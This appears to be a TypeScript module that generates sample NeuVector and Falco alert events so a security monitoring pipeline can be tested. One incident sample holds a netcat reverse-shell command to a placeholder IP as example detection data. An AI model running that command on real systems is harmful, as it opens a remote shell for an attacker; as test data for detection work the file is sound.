import { randomUUID } from 'node:crypto';

/**
 * Realistic sample events for `vigil send-test`, shaped as NeuVector and Falco send them and
 * stamped with the current time, so a deployment can be checked end to end without a real sender.
 */

export const SAMPLE_TYPES = ['violation', 'threat', 'incident', 'audit', 'falco'] as const;
export type SampleType = (typeof SAMPLE_TYPES)[number];

export interface Sample {
  /** Unique per sample: find the event in the SIEM by it (it is in event.original). */
  id: string;
  /** One RFC 5424 syslog message, without a line end. */
  syslog: string;
  /** The same event as its sender's webhook would POST it. */
  http: { path: string; contentType: string; body: string };
}

const CLUSTER = 'vigil-send-test';
const CONTROLLER_HOST = 'neuvector-controller-pod-6d9c7f8b5-x7kqm';

/** What every NeuVector notification carries, from its reporting controller and enforcer. */
function neuvectorCommon(now: Date, id: string, level: string): Record<string, unknown> {
  return {
    level,
    reported_timestamp: Math.floor(now.getTime() / 1000),
    reported_at: now.toISOString().replace(/\.\d{3}Z$/, 'Z'),
    cluster_name: CLUSTER,
    host_id: 'worker-3:4C4C4544-0052-3510-8051-B7C04F4D3332',
    host_name: 'worker-3',
    enforcer_id: '9b1e7d3c5a2f4e6081d3c5b7a9e1f3d5c7b9a1e3f5d7c9b1a3e5f7d9c1b3a5e7',
    enforcer_name: 'neuvector-enforcer-pod-t4q9z',
    id,
  };
}

const NEUVECTOR: Record<Exclude<SampleType, 'falco'>, { level: string; pri: number; fields: Record<string, unknown> }> = {
  violation: {
    level: 'Critical', pri: 130,
    fields: {
      client_id: 'Workload:10.244.1.31', client_name: 'Workload:10.244.1.31',
      server_id: '5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f', server_name: 'ledger-db-0',
      server_domain: 'payments', server_image: 'docker.io/bitnami/postgresql:16.3.0-debian-12-r14', server_service: 'ledger-db.payments',
      server_port: 5432, ip_proto: 6, applications: ['PostgreSQL'], servers: ['PostgreSQL'], sessions: 1,
      policy_action: 'deny', policy_id: 10042, client_ip: '10.244.1.31', server_ip: '10.244.2.11', fqdn: '', xff: false, nbe: false,
    },
  },
  threat: {
    level: 'Critical', pri: 130,
    fields: {
      name: 'SQL.Injection', threat_id: 2022, client_workload_id: 'external', client_workload_name: 'external',
      server_workload_id: '2b4d6f8a0c1e3a5c7e9b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c', server_workload_name: 'wordpress-6f7d8c9b5d-2mhtx',
      server_workload_domain: 'blog', server_workload_image: 'docker.io/library/wordpress:6.5-apache', server_workload_service: 'wordpress.blog',
      severity: 'Critical', action: 'deny', count: 1, ether_type: 2048, client_port: 51822, server_port: 80, server_conn_port: 80,
      icmp_code: 0, icmp_type: 0, ip_proto: 6, client_ip: '203.0.113.45', server_ip: '10.244.1.23', application: 'HTTP',
      sensor: '', group: '', target: 'server', monitor: false, message: 'SQL Injection, application=1001',
    },
  },
  incident: {
    level: 'Warning', pri: 132,
    fields: {
      name: 'Process.Profile.Violation', workload_id: 'f1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e',
      workload_name: 'billing-5d4c3b2a1-zx9wv', workload_domain: 'finance', workload_image: 'registry.example.com/finance/billing:5.0.3',
      workload_service: 'billing.finance', proc_name: 'nc', proc_path: '/usr/bin/nc', proc_cmd: 'nc -e /bin/sh 203.0.113.45 4444',
      proc_real_uid: 0, proc_effective_uid: 0, proc_real_user: 'root', proc_effective_user: 'root',
      proc_parent_name: 'sh', proc_parent_path: '/bin/sh', action: 'violate', group: 'nv.billing.finance', aggregation_from: 0, count: 1,
      message: 'Process profile violation: execution of nc',
    },
  },
  audit: {
    level: 'Warning', pri: 132,
    fields: {
      name: 'Admission.Control.Violation', host_id: '', host_name: '', enforcer_id: '', enforcer_name: '',
      workload_domain: 'dev', workload_image: 'docker.io/library/redis:7.2.5', critical_vul_cnt: 0, high_vul_cnt: 3, medium_vul_cnt: 9,
      message: 'Creation of Kubernetes Pod resource (cache-0) violates Admission Control monitor-mode rule(s). Container cache violates deny rule id 1005 with criteria: (run as root = true)',
      user: 'jane.doe@example.com', aggregation_from: 0, count: 1,
    },
  },
};

export function makeSample(type: SampleType, now = new Date()): Sample {
  const id = randomUUID();
  const timestamp = now.toISOString();
  if (type === 'falco') return falcoSample(id, now);
  const { level, pri, fields } = NEUVECTOR[type];
  const body = { ...neuvectorCommon(now, id, level), ...fields };
  return {
    id,
    syslog: `<${pri}>1 ${timestamp} ${CONTROLLER_HOST} /usr/local/bin/controller 12 neuvector - ${JSON.stringify({ notification: type, ...body })}`,
    // NeuVector's JSON webhook: the same fields, plus the cluster and the response rule that fired.
    http: { path: '/ingest/neuvector', contentType: 'application/json', body: JSON.stringify({ cluster: CLUSTER, response_rule_id: 1001, ...body }) },
  };
}

/** Falco with json_output: the same JSON over syslog and http_output. */
function falcoSample(id: string, now: Date): Sample {
  const nanos = BigInt(now.getTime()) * 1_000_000n;
  const time = `${now.toISOString().slice(0, 19)}.${String(nanos % 1_000_000_000n).padStart(9, '0')}Z`;
  const clock = time.slice(11, 29);
  const output = `${clock}: Notice A shell was spawned in a container with an attached terminal | evt_type=execve user=root user_uid=0 ` +
    `process=bash proc_exepath=/usr/bin/bash parent=runc command=bash terminal=34816 container_id=3ad7b26ded6d ` +
    `container_name=payments-api k8s_pod_name=payments-api-7d9c8f5b6-x2x7q k8s_ns_name=payments send_test_id=${id}`;
  const fields = {
    'container.id': '3ad7b26ded6d', 'container.image.repository': 'registry.example.com/payments/api', 'container.image.tag': '2.4.1',
    'container.name': 'payments-api', 'evt.time': `@@${nanos}@@`, 'evt.type': 'execve', 'k8s.ns.name': 'payments',
    'k8s.pod.name': 'payments-api-7d9c8f5b6-x2x7q', 'proc.cmdline': 'bash', 'proc.exepath': '/usr/bin/bash', 'proc.name': 'bash',
    'proc.pname': 'runc', 'proc.tty': 34816, 'user.loginuid': -1, 'user.name': 'root', 'user.uid': 0,
  };
  const alert = {
    hostname: 'falco-7x2kq', output, output_fields: fields, priority: 'Notice', rule: 'Terminal shell in container', source: 'syscall',
    tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'], time,
  };
  // evt.time is a nanosecond integer beyond 2^53, written unquoted as Falco does.
  const json = JSON.stringify(alert).replace(`"@@${nanos}@@"`, String(nanos));
  return {
    id,
    syslog: `<13>1 ${now.toISOString()} falco-7x2kq falco 1 - - ${json}`,
    http: { path: '/ingest/falco', contentType: 'application/json', body: json },
  };
}
